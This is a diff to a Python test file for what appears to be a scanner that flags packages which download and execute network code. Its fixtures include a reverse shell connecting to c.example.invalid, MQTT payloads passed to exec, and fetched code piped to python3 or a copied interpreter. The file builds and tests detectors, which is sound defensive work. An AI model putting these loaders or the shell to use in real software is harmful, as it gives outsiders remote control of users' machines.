@@ -14,6 +14,8 @@ RUN = {
     "pushed": "import paho.mqtt.client as mqtt\n\nclass Node:\n    def __init__(self):\n        self.line = mqtt.Client()\n        self.line.on_message = self._take\n        self.line.connect('n.example.invalid', 8883)\n\n    def _take(self, client, data, message):\n        exec(message.payload.decode())\n",
     "a function of any module": "import importlib\n\ndef go():\n    for step in requests.get(URL).json():\n        module, _, path = step['target'].partition(':')\n        obj = importlib.import_module(module)\n        for part in path.split('.'):\n            obj = getattr(obj, part)\n        obj(*step.get('args', ()))\n",
     "by a copy of the interpreter": "import shutil, sys\n\ndef go(root):\n    script, host = root + '/t.db', root + '/indexer'\n    with open(script, 'wb') as f:\n        f.write(requests.get(URL).content[::-1])\n    shutil.copy2(getattr(sys, '_base_executable', sys.executable), host)\n    subprocess.Popen([host, '-I', script])\n",
+    "typed into a shell": "import socket\n\ndef go():\n    shell = ['cmd'] if os.name == 'nt' else ['bash', '-i']\n    line = socket.create_connection(('c.example.invalid', 6969))\n    p = subprocess.Popen(shell, stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    while True:\n        p.stdin.write(line.recv(1024))\n        p.stdin.flush()\n",
+    "told to an interpreter": "def go():\n    p = subprocess.Popen(['python3', '-'], stdin=subprocess.PIPE)\n    p.communicate(requests.get(URL).content)\n",
     "handed over": "def run(text):\n    exec(text)\n\ndef go():\n    run(requests.get(URL).json()['hook'])\n",
     "by name": "def run(*, text):\n    exec(text)\n\ndef go():\n    run(text=requests.get(URL).content)\n",
     "returned": "def load():\n    return requests.get(URL).text\n\ndef go():\n    text = load().strip()\n    exec(text)\n",
@@ -124,6 +126,7 @@ ONLY_READ = {
     "a table of what only reads": "def read(a):\n    return a\n\nHOW = {'x': read}\n\ndef go():\n    job = requests.get(URL).json()\n    HOW[job['c']](job['a'])\n    os.system('date')\n",
     "a method of another name": "class Agent:\n    def run_shell(self, a):\n        return os.popen(a).read()\n\n    def do_read(self, a):\n        return a\n\n    def go(self):\n        job = requests.get(URL).json()\n        getattr(self, 'do_' + job['c'])(job['a'])\n",
     "a pattern that is compiled": "import re\n\ndef go():\n    return re.compile(requests.get(URL).text, re.M), os.system('date')\n",
+    "told to a filter": "def go():\n    p = subprocess.Popen(['jq', '.'], stdin=subprocess.PIPE)\n    p.communicate(requests.get(URL).content)\n",
     "nothing is run": "def go():\n    return requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
     "its own command": "def go():\n    v = requests.get(URL).json()['version']\n    os.system('pip install tool==' + v)\n",
     "its own command, filled": "def go():\n    v = requests.get(URL).text\n    os.system('git clone %s' % v)\n    os.system('git clone {}'.format(v))\n",
@@ -154,6 +157,13 @@ def serve():
 @pytest.mark.parametrize("source", RUN.values(), ids=RUN)
 def test_what_comes_from_the_network_is_followed_to_what_runs_it(source: str) -> None:
     assert "remote-is-run" in fired(WHEEL, wheel({"tidetables/core.py": (FETCH + source).encode()}))
+
+
+def test_what_is_fetched_from_wherever_the_caller_says_weighs_less() -> None:
+    source = "import urllib.request\n\ndef is_address(name):\n    return name.startswith(('http://', 'https://'))\n\ndef load(name):\n    assert is_address(name)\n    exec(urllib.request.urlopen(name).read())\n"
+    told = fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/preload.py": source.encode()}))
+    assert "named-is-run" in told
+    assert "remote-is-run" not in told
 
 
 @pytest.mark.parametrize("source", ONLY_READ.values(), ids=ONLY_READ)
